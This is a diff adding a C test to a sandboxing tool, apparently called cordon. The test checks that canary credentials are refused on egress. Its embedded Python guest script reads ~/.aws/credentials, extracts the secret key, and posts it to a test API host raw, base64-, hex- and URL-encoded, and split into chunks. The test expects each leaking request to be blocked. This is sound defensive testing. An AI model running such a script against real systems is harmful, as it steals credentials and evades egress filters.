@@ -209,3 +209,58 @@ Test(http, https_through_interception_with_verification_on)
     cr_assert(!strstr(log, "/v1/files"), "a refused request reached the upstream:\n%s", log);
     free(log);
 }
+
+/* The canary on egress: a guest that read its canary file and sends it out
+ * through a granted API, raw or encoded or split across chunks, is refused
+ * before any of that request reaches the upstream. */
+Test(http, canary_tokens_never_leave_in_any_encoding)
+{
+    char tag[17], policy[64], text[1024], script[4096];
+    random_tag(tag);
+    struct upstream u;
+    upstream_start(&u, "sk-real", tag, NULL, NULL);
+    snprintf(policy, sizeof policy, "/tmp/cordon-http-%s.json", tag);
+    snprintf(text, sizeof text,
+             "{\"egress\": [{\"host\": \"api.test\", \"port\": 80, \"upstream\": \"127.0.0.1:%d\",\n"
+             "  \"http\": {\"methods\": [\"POST\"], \"paths\": [\"/v1/*\"]}}]}\n", u.port);
+    FILE *f = fopen(policy, "w");
+    fputs(text, f);
+    fclose(f);
+    snprintf(script, sizeof script,
+             "import base64, http.client, json, os\n"
+             "cred = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\n"
+             "secret = [l.split(b'=')[1].strip() for l in cred.splitlines() if b'secret' in l][0]\n"
+             "def post(path, body):\n"
+             "    c = http.client.HTTPConnection('api.test', 80)\n"
+             "    c.request('POST', path, body=body, encode_chunked=not isinstance(body, bytes))\n"
+             "    r = c.getresponse(); d = json.loads(r.read())\n"
+             "    print(r.status, d.get('reason', 'passed').split(' is in')[0])\n"
+             "post('/v1/ok', b'hello')\n"
+             "post('/v1/raw', cred)\n"
+             "post('/v1/b64', base64.encodebytes(b'x' + cred))\n"
+             "post('/v1/b64b', base64.b64encode(b'xy' + secret))\n"
+             "post('/v1/hex', secret.hex().upper().encode())\n"
+             "post('/v1/q?k=' + ''.join('%%%%%%02X' %% c for c in secret[:20]) + secret[20:].decode(), b'')\n"
+             "post('/v1/split', iter([secret[:10], secret[10:]]))\n");
+    const char *const opts[] = { "--policy", policy, "--canary", "/home/user/.aws/credentials",
+                                 NULL };
+    struct run_opts o = { .cordon_opts = opts };
+    RUN(r);
+    run_guest(&r, &o, ARGV("python3", "-c", script));
+    unlink(policy);
+    char *log = upstream_stop(&u);
+    assert_run(&r, 0,
+               "200 passed\n"
+               "403 a canary token (raw)\n"
+               "403 a canary token (base64)\n"
+               "403 a canary token (base64)\n"
+               "403 a canary token (hex)\n"
+               "403 a canary token (url-encoded)\n"
+               "403 a canary token (raw)\n");
+    int lines = 0;
+    for (char *p = log; (p = strchr(p, '\n')); p++)
+        lines++;
+    cr_assert_eq(lines, 1, "the upstream saw %d requests, want only the benign one:\n%s", lines,
+                 log);
+    free(log);
+}
